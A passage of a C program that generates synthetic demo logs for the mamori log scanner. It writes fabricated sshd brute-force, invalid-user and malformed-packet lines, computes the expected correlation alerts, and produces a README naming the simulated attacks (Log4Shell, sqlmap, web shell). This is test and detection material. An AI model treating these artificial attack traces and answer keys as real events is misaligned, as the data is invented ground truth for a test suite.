		sl(rs, t + 3, "sshd", pid, "Failed password for invalid user %s from 198.51.100.200 port %u ssh2",
		   u, p);
		sl(rs, t + 4, "sshd", pid,
		   "Connection closed by invalid user %s 198.51.100.200 port %u [preauth]", u, p);
		t += 20 + gen_below(r, 20);
	}
	/* 3. brute force on root from one address, then success */
	t = hms(4, 10, 0);
	for (int c = 0; c < 5; c++) {
		pid = next_pid(r);
		p = port(r);
		sl(rs, t, "sshd", pid,
		   "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
		   "ruser= rhost=203.0.113.5  user=root");
		int tries = c < 4 ? 6 : 2;
		for (int i = 0; i < tries; i++) {
			t += 2 + gen_below(r, 3);
			x = sl(rs, t, "sshd", pid, "Failed password for root from 203.0.113.5 port %u ssh2", p);
			mark(x, R_SSH_ROOT_FAIL, "brute force on root: failed password");
		}
		t += 1;
		if (c < 4) {
			x = sl(rs, t, "sshd", pid,
			       "error: maximum authentication attempts exceeded for root from 203.0.113.5 "
			       "port %u ssh2 [preauth]",
			       p);
			mark(x, R_SSH_MAXAUTH, "brute force on root: MaxAuthTries exceeded");
			sl(rs, t, "sshd", pid,
			   "Disconnecting authenticating user root 203.0.113.5 port %u: Too many "
			   "authentication failures [preauth]",
			   p);
			sl(rs, t, "sshd", pid,
			   "PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
			   "rhost=203.0.113.5  user=root");
			sl(rs, t, "sshd", pid, "PAM service(sshd) ignoring max retries; 6 > 3");
			t += 5 + gen_below(r, 10);
			continue;
		}
		x = sl(rs, t, "sshd", pid, "Accepted password for root from 203.0.113.5 port %u ssh2", p);
		mark(x, R_SSH_ROOT_OK, "brute force succeeded: root password login");
		sl(rs, t, "sshd", pid, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)");
		unsigned sess = ++g_session;
		sl(rs, t, "systemd-logind", 612, "New session %u of user root.", sess);
		t += 312;
		sl(rs, t, "sshd", pid, "Received disconnect from 203.0.113.5 port %u:11: disconnected by user", p);
		sl(rs, t, "sshd", pid, "Disconnected from user root 203.0.113.5 port %u", p);
		sl(rs, t, "sshd", pid, "pam_unix(sshd:session): session closed for user root");
		sl(rs, t, "systemd-logind", 612, "Session %u logged out. Waiting for processes to exit.", sess);
		sl(rs, t, "systemd-logind", 612, "Removed session %u.", sess);
	}
	/* 4. a malformed-packet client (fuzzer or exploit attempt) */
	pid = next_pid(r);
	x = sl(rs, hms(5, 2, 17), "sshd", pid,
	       "ssh_dispatch_run_fatal: Connection from 198.51.100.66 port 52000: incorrect signature "
	       "[preauth]");
	mark(x, R_SSH_DAEMON, "crafted key-exchange packet (incorrect signature)");
}

/* ---- correlation ground truth ------------------------------------------- */

/* The correlation rules of rules/ (Sigma correlation, docs/internals/
 * CORRELATE.md): per key, a sliding window of `span` seconds over the lines
 * a classifier picks; the rule fires on the line where the window holds
 * `need` events (event_count) or `need` distinct values (value_count), and
 * the window starts empty again after that line. Computed here from the lines
 * the generator wrote, independently of mamori. */
struct corr_spec {
	const char *rule, *note;
	int64_t span;
	unsigned need;
	int distinct;
	/* key and value of a line, or 0 when the line does not count */
	int (*pick)(const char *line, char *key, size_t kn, char *val, size_t vn);
};

static int copy_after(const char *line, const char *tag, const char *stop, char *out, size_t n)
{
	const char *p = strstr(line, tag);
	if (!p)
		return 0;
	p += strlen(tag);
	size_t k = strcspn(p, stop);
	snprintf(out, n, "%.*s", (int)k, p);
	return 1;
}

/* sshd "Failed password for [invalid user] NAME from IP port": ssh_login failure */
static int pick_ssh_fail(const char *line, char *key, size_t kn, char *val, size_t vn)
{
	const char *p = strstr(line, "sshd[");
	if (!p || !strstr(p, "]: Failed password for "))
		return 0;
	const char *u = strstr(p, "Failed password for ") + 20;
	if (strncmp(u, "invalid user ", 13) == 0)
		u += 13;
	size_t k = strcspn(u, " ");
	snprintf(val, vn, "%.*s", (int)k, u);
	return copy_after(u, " from ", " ", key, kn);
}

static int pick_ssh_invalid(const char *line, char *key, size_t kn, char *val, size_t vn)
{
	if (!strstr(line, "sshd[") || !strstr(line, "]: Invalid user "))
		return 0;
	snprintf(key, kn, DEMO_HOST);
	snprintf(val, vn, "-");
	return 1;
}

static int pick_ssh_preauth(const char *line, char *key, size_t kn, char *val, size_t vn)
{
	const char *p = strstr(line, "sshd[");
	snprintf(val, vn, "-");
	if (!p)
		return 0;
	p = strchr(p, ':') + 2;
	if (strstr(p, "Did not receive identification string from ") == p)
		return copy_after(p, " from ", " ", key, kn);
	if (!strstr(p, "[preauth]"))
		return 0;
	if (strncmp(p, "Received disconnect from ", 25) == 0)
		return copy_after(p, " from ", " ", key, kn);
	if (strncmp(p, "Connection closed by ", 21) == 0 || strncmp(p, "Disconnecting ", 14) == 0) {
		/* the address is the word before " port " */
		const char *q = strstr(p, " port ");
		if (!q)
			return 0;
		const char *b = q;
		while (b > p && b[-1] != ' ')
			b--;
		snprintf(key, kn, "%.*s", (int)(q - b), b);
		return 1;
	}
	return 0;
}

static const char *const g_login_paths[] = {
	"/login", "/login.php", "/signin", "/sign_in", "/wp-login.php", "/user/login",
	"/users/sign_in", "/auth", "/authenticate", "/session", "/sessions", "/api/login",
	"/api/auth/login", "/j_security_check",
};

static int pick_web_login(const char *line, char *key, size_t kn, char *val, size_t vn)
{
	char path[512];
	if (!copy_after(line, "\"POST ", " ?", path, sizeof(path)))
		return 0;
	const char *st = strstr(line, "HTTP/1.1\" ");
	if (!st || (strncmp(st + 10, "401 ", 4) != 0 && strncmp(st + 10, "403 ", 4) != 0))
		return 0;
	int hit = 0;
	for (size_t i = 0; i < sizeof(g_login_paths) / sizeof(g_login_paths[0]); i++) {
		size_t pl = strlen(path), ll = strlen(g_login_paths[i]);
		hit |= pl >= ll && strcmp(path + pl - ll, g_login_paths[i]) == 0;
	}
	snprintf(val, vn, "-");
	return hit && snprintf(key, kn, "%.*s", (int)strcspn(line, " "), line) > 0;
}

static const struct corr_spec g_ssh_corrs[] = {
	{R_SSH_BF, "brute force: 10th failed password from one source within 10 min", 600, 10, 0,
	 pick_ssh_fail},
	{R_SSH_SPRAY, "password spraying: 8th account tried from one source within 30 min", 1800,
	 8, 1, pick_ssh_fail},
	{R_SSH_STORM, "invalid-user storm: 30th unknown account on the host within 5 min", 300, 30,
	 0, pick_ssh_invalid},
	{R_SSH_PREAUTH, "pre-auth flood: 20th connection ended before login within 5 min", 300, 20,
	 0, pick_ssh_preauth},
};
static const struct corr_spec g_web_corrs[] = {
	{R_WEB_BF, "web login brute force: 10th refused login POST within 10 min", 600, 10, 0,
	 pick_web_login},
};

#define CT_KEYS 64
#define CT_EV 64

struct ct_key {
	char key[64];
	unsigned n;
	int64_t t[CT_EV];
	char v[CT_EV][48];
};

static void add_rule(struct rec *r, const char *rule, const char *note)
{
	for (int k = 0; k < MAX_RULES; k++)
		if (!r->rules[k]) {
			r->rules[k] = rule;
			break;
		}
	if (!r->note)
		r->note = note;
}

static void corr_truth(struct recs *rs, const struct corr_spec *cs, size_t ncs)
{
	qsort(rs->v, rs->n, sizeof(*rs->v), rec_cmp);
	for (size_t c = 0; c < ncs; c++) {
		static struct ct_key keys[CT_KEYS];
		size_t nk = 0;
		memset(keys, 0, sizeof(keys));
		for (size_t i = 0; i < rs->n; i++) {
			char key[64], val[48];
			if (!cs[c].pick(rs->v[i].line, key, sizeof(key), val, sizeof(val)))
				continue;
			struct ct_key *k = NULL;
			for (size_t j = 0; j < nk && !k; j++)
				if (!strcmp(keys[j].key, key))
					k = &keys[j];
			if (!k) {
				if (nk == CT_KEYS)
					continue; /* the demo has far fewer sources */
				k = &keys[nk++];
				snprintf(k->key, sizeof(k->key), "%s", key);
			}
			int64_t t = rs->v[i].t;
			/* drop events older than the window (inclusive bound) */
			unsigned keep = 0;
			for (unsigned e = 0; e < k->n; e++)
				if (k->t[e] >= t - cs[c].span) {
					k->t[keep] = k->t[e];
					memcpy(k->v[keep], k->v[e], sizeof(k->v[0]));
					keep++;
				}
			k->n = keep;
			if (k->n == CT_EV)
				continue;
			k->t[k->n] = t;
			snprintf(k->v[k->n], sizeof(k->v[0]), "%s", val);
			k->n++;
			unsigned count = k->n;
			if (cs[c].distinct) {
				count = 0;
				for (unsigned e = 0; e < k->n; e++) {
					unsigned d = 0;
					while (d < e && strcmp(k->v[d], k->v[e]) != 0)
						d++;
					count += d == e;
				}
			}
			if (count >= cs[c].need) {
				add_rule(&rs->v[i], cs[c].rule, cs[c].note);
				k->n = 0;
			}
		}
	}
}

/* temporal_ordered "brute force, then an accepted login from the same source
 * within 30 min" (ssh_login_success_after_brute_force): fires on the Accepted
 * line when a brute-force result of that source lies at most 1800 s before
 * it; the pair is consumed. Runs after corr_truth() marked the brute-force
 * lines. */
/* a consumed brute-force result: prints as R_SSH_BF, told apart by address.
 * Not const: clang put a const copy in a mergeable string section, where the
 * linker folded it into the literal and the address test never held. */
static char g_bf_used[] = R_SSH_BF;

static void takeover_truth(struct recs *rs)
{
	for (size_t i = 0; i < rs->n; i++) {
		const char *acc = strstr(rs->v[i].line, "]: Accepted ");
		char ip[64];
		if (!acc || !copy_after(acc, " from ", " ", ip, sizeof(ip)))
			continue;
		for (size_t j = i; j-- > 0;) {
			struct rec *b = &rs->v[j];
			if (b->t < rs->v[i].t - 1800)
				break;
			int bf = 0;
			for (int k = 0; k < MAX_RULES && b->rules[k]; k++)
				bf |= b->rules[k] != g_bf_used && !strcmp(b->rules[k], R_SSH_BF);
			char bip[64];
			const char *fp = strstr(b->line, "Failed password for ");
			if (!bf || !fp || !copy_after(fp, " from ", " ", bip, sizeof(bip)) ||
			    strcmp(bip, ip) != 0)
				continue;
			add_rule(&rs->v[i], R_SSH_TAKEOVER,
			         "brute force then accepted login from the same source");
			/* consumed: a second accepted login needs a new brute force */
			for (int k = 0; k < MAX_RULES; k++)
				if (b->rules[k] && !strcmp(b->rules[k], R_SSH_BF))
					b->rules[k] = g_bf_used;
			break;
		}
	}
}

/* ---- output ------------------------------------------------------------ */

struct alert_line {
	char s[128];
};

static int alert_cmp(const void *a, const void *b)
{
	return strcmp(((const struct alert_line *)a)->s, ((const struct alert_line *)b)->s);
}

static FILE *open_out(const char *dir, const char *name)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	FILE *f = fopen(path, "wb");
	if (!f) {
		fprintf(stderr, "mamori-gen-demo: cannot write %s: %s\n", path, strerror(errno));
		exit(1);
	}
	return f;
}

static void close_out(FILE *f, const char *name)
{
	if (ferror(f) || fclose(f) != 0) {
		fprintf(stderr, "mamori-gen-demo: error writing %s\n", name);
		exit(1);
	}
}

/* Sort, write the log, and append its expected alerts. */
static void write_log(const char *dir, const char *name, struct recs *rs, struct alert_line **al,
                      size_t *nal)
{
	qsort(rs->v, rs->n, sizeof(*rs->v), rec_cmp);
	FILE *f = open_out(dir, name);
	for (size_t i = 0; i < rs->n; i++) {
		fputs(rs->v[i].line, f);
		fputc('\n', f);
		for (int k = 0; k < MAX_RULES && rs->v[i].rules[k]; k++) {
			*al = xrealloc(*al, (*nal + 1) * sizeof(**al));
			snprintf((*al)[*nal].s, sizeof((*al)[*nal].s), "%s %zu %s", name, i + 1,
			         rs->v[i].rules[k]);
			(*nal)++;
		}
	}
	close_out(f, name);
}

static size_t count_attack_lines(const struct recs *rs)
{
	size_t n = 0;
	for (size_t i = 0; i < rs->n; i++)
		n += rs->v[i].note != NULL;
	return n;
}

/* Markdown-escape "|" and backticks are not needed: notes are plain words. */
static void readme_table(FILE *f, const char *name, const struct recs *rs)
{
	fprintf(f, "| line | source | attack | rule(s) that must fire |\n|---:|---|---|---|\n");
	for (size_t i = 0; i < rs->n; i++) {
		const struct rec *r = &rs->v[i];
		if (!r->note)
			continue;
		/* source address: first token (web) or the "from/with A.B.C.D" address (sshd) */
		char src[64] = "";
		const char *p = r->line;
		if (strcmp(name, "access.log") == 0) {
			size_t k = strcspn(p, " ");
			snprintf(src, sizeof(src), "%.*s", (int)k, p);
		} else {
			const char *q = strstr(p, "203.0.113.");
			if (!q)
				q = strstr(p, "198.51.100.");
			if (q) {
				size_t k = strspn(q, "0123456789.");
				snprintf(src, sizeof(src), "%.*s", (int)k, q);
			}
		}
		fprintf(f, "| %zu | %s | %s | ", i + 1, src, r->note);
		for (int k = 0; k < MAX_RULES && r->rules[k]; k++)
			fprintf(f, "%s`%s`", k ? ", " : "", rule_name(r->rules[k]));
		fputs(" |\n", f);
	}
	fputc('\n', f);
}

static void write_readme(const char *dir, const struct recs *web, const struct recs *auth,
                         size_t nalerts)
{
	FILE *f = open_out(dir, "README.md");
	fprintf(f,
	        "# mamori demo data\n\n"
	        "Generated by `mamori-gen-demo OUTDIR` (tools/gen_demo.c, fixed seed; this file too).\n"
	        "Do not edit by hand: change the generator and regenerate, the test suite checks\n"
	        "that the committed files equal the generator's output byte for byte.\n\n"
	        "One day (2026-11-25, JST +0900) of a small tea shop's web server `" DEMO_HOST "`:\n\n"
	        "- `access.log` — Apache combined format, %zu lines. Benign traffic: %u browsing\n"
	        "  sessions and crawler visits from clients in 192.0.2.0/24, 2001:db8::/32 and the\n"
	        "  office LAN 10.20.0.0/16, a Prometheus exporter scraping `/server-status?auto` from\n"
	        "  127.0.0.1 every 5 minutes and an uptime monitor. Search terms include innocent\n"
	        "  near misses (\"union station\", \"select tea\", \"sleep tea\", \"forgot passwd\").\n"
	        "  %zu attack lines are embedded.\n"
	        "- `auth.log` — RFC 3164 syslog (sshd, sudo, CRON, systemd-logind), %zu lines. Benign:\n"
	        "  administrators' key and password logins from the LAN, a typo'd password, sudo,\n"
	        "  cron every 10 minutes, configuration management logging in as root with a key,\n"
	        "  an admin trying root's password from the LAN (private source: no alert), and\n"
	        "  Internet background noise (closed pre-auth connections). %zu attack lines.\n"
	        "- `expected-alerts.txt` — the ground truth for `mamori scan` with the default\n"
	        "  ruleset: one line per alert, `<file> <line> <rule id>`, sorted with\n"
	        "  `LC_ALL=C sort` (%zu alerts). Benign lines produce no alert.\n\n"
	        "Attackers use only documentation addresses (RFC 5737): 203.0.113.0/24 and\n"
	        "198.51.100.0/24.\n\n"
	        "Story: scanners (masscan, Nmap, Nikto, Nuclei) sweep the host at night and probe\n"
	        "for `.env`/`.git` and old web shells; a Log4Shell sprayer tries JNDI lookups;\n"
	        "203.0.113.99 walks directories and reads PHP source through php://filter;\n"
	        "203.0.113.45 runs sqlmap against `/products.php`; 198.51.100.77 tries XSS, then\n"
	        "dumps customer hashes by hand through the search box; 198.51.100.150 drives a web\n"
	        "shell that is already present (`thumb.php`, answers 200). On sshd,\n"
	        "198.51.100.200 runs an invalid-user storm (30 names, 16 of them on the attack\n"
	        "wordlist), and 203.0.113.5 brute-forces root over five connections and then\n"
	        "logs in with root's password (the `ssh_root_password_login_success` row below,\n"
	        "and `ssh_login_success_after_brute_force`: a brute force, then an accepted login\n"
	        "from the same source within 30 minutes).\n\n"
	        "Correlation rules (Sigma correlation, `rules/ssh/ssh_brute_force_single_source.yml`\n"
	        "and `ssh_password_spraying.yml`) report on the line that completes them: the 10th\n"
	        "failed password from one source within 10 minutes (`ssh_brute_force_single_source`),\n"
	        "the 8th distinct account tried from one source within 30 minutes\n"
	        "(`ssh_password_spraying`); after each alert the window starts empty, so a long\n"
	        "attack yields one alert per batch. The storm's 30 names arrive about every 30 s,\n"
	        "below the invalid-user storm rule's 30 in 5 minutes, and no source ends 20\n"
	        "connections before login within 5 minutes: those rules stay quiet here.\n\n"
	        "## access.log\n\n",
	        web->n, WEB_SESSIONS, count_attack_lines(web), auth->n, count_attack_lines(auth),
	        nalerts);
	readme_table(f, "access.log", web);
	fputs("## auth.log\n\n", f);
	readme_table(f, "auth.log", auth);
	fputs("## Check it\n\n"
	      "`<file>` in expected-alerts.txt is the log's base name; formats are auto-detected.\n\n"
	      "```sh\n"
	      "mamori scan data/demo/access.log data/demo/auth.log --no-db \\\n"
	      "  | jq -r '\"\\(.evidence.file | split(\"/\") | last) \\(.evidence.line) "
	      "\\(.rule.id)\"' \\\n"
	      "  | LC_ALL=C sort | diff - data/demo/expected-alerts.txt\n"
	      "mkdir -p /tmp/demo && mamori-gen-demo /tmp/demo && diff -r /tmp/demo data/demo\n"
	      "```\n",
	      f);
	close_out(f, "README.md");
}

int main(int argc, char **argv)
{
	if (argc != 2 || argv[1][0] == '-') {
		fputs("usage: mamori-gen-demo OUTDIR\n"
		      "Writes access.log, auth.log, expected-alerts.txt and README.md into OUTDIR\n"
		      "(created if missing; its parent must exist). Output is deterministic.\n",
		      stderr);
		return 2;
	}
	const char *dir = argv[1];
	if (mkdir(dir, 0777) != 0 && errno != EEXIST) {
		fprintf(stderr, "mamori-gen-demo: cannot create %s: %s\n", dir, strerror(errno));
		return 1;
	}
	g_day0 = gen_days_from_civil(2026, 11, 25) * 86400;

	struct gen_rng r;
	gen_rng_seed(&r, DEMO_SEED);
	struct recs web = {0}, auth = {0};
	for (unsigned i = 0; i < WEB_SESSIONS; i++)
		web_session(&web, &r);
	web_monitoring(&web);
	web_attacks(&web);

	gen_rng_seed(&r, DEMO_SEED ^ 0xa5a5a5a5ULL);
	cron(&auth, &r);
	admins(&auth, &r);
	ssh_attacks(&auth, &r);
	corr_truth(&auth, g_ssh_corrs, sizeof(g_ssh_corrs) / sizeof(g_ssh_corrs[0]));
	takeover_truth(&auth);
	corr_truth(&web, g_web_corrs, sizeof(g_web_corrs) / sizeof(g_web_corrs[0]));

	struct alert_line *al = NULL;
	size_t nal = 0;
	write_log(dir, "access.log", &web, &al, &nal);
	write_log(dir, "auth.log", &auth, &al, &nal);
	qsort(al, nal, sizeof(*al), alert_cmp);
	FILE *f = open_out(dir, "expected-alerts.txt");
	for (size_t i = 0; i < nal; i++)
		fprintf(f, "%s\n", al[i].s);
	close_out(f, "expected-alerts.txt");
	write_readme(dir, &web, &auth, nal);

	free(al);
	recs_free(&web);
	recs_free(&auth);
	return 0;
}
